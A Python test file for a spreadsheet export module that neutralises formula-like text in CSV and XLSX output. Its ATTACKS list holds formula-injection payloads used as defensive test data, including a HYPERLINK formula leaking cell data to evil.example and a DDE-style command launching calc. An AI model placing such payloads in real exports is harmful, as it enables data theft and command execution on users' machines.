"""Exports are safe to open in Excel: formula-like text is neutralised, numbers stay numbers, Chinese survives."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from guanxi.core.tabular import BOM, csv_bytes, iter_csv, iter_xlsx, safe_cell, xlsx_bytes

ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n@x",
    "  =1+1",
    "-",
    "+",
    "=",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_like_text_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [0, 12, -12, 3.5, -3.5, Decimal("-19.90"), True, date(2026, 11, 23), datetime(2026, 11, 23, 8, 0, tzinfo=UTC)],
)
def test_numbers_dates_and_booleans_stay_as_they_are(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("value", ["-12.5", "+8613812345678", "-1e5", "42", "王小明", "a=b", "x-1", "mail@example.com"])
def test_harmless_text_is_unchanged(value):
    assert safe_cell(value) == value


def test_none_is_an_empty_cell():
    assert safe_cell(None) == ""
    assert safe_cell("") == ""


def test_csv_starts_with_a_bom_and_escapes_every_cell():
    data = csv_bytes(["名字", "=evil"], [["王小明", "=1+1"], [Decimal("12.50"), None]])
    assert data.startswith(BOM.encode("utf-8"))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["名字", "'=evil"], ["王小明", "'=1+1"], ["12.50", ""]]


def test_csv_streams_line_by_line():
    lines = list(iter_csv(["a"], ([i] for i in range(3))))
    assert lines[0] == BOM + "a\r\n"
    assert lines[1:] == ["0\r\n", "1\r\n", "2\r\n"]


def test_csv_quotes_separators_and_newlines_inside_cells():
    data = csv_bytes(["a", "b"], [['x, "y"', "line1\nline2"]])
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")))) == [["a", "b"], ['x, "y"', "line1\nline2"]]


def test_xlsx_keeps_numbers_and_stores_no_formula():
    data = xlsx_bytes(
        ["名字", "金额", "日期"],
        [["=1+1", Decimal("12.5"), datetime(2026, 11, 23, 8, 30, tzinfo=UTC)], ["王\x01小明", 3, None]],
        sheet_title="客户",
    )
    book = load_workbook(io.BytesIO(data))
    sheet = book["客户"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("名字", "金额", "日期")
    assert rows[1][0] == "'=1+1"
    assert rows[1][1] == 12.5
    assert isinstance(rows[1][2], datetime)
    assert rows[2][:2] == ("王小明", 3)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_streams_in_chunks():
    chunks = list(iter_xlsx(["n"], ([i] for i in range(2000)), chunk_size=1024))
    assert len(chunks) > 1
    book = load_workbook(io.BytesIO(b"".join(chunks)), read_only=True)
    assert sum(1 for _ in book.active.iter_rows()) == 2001
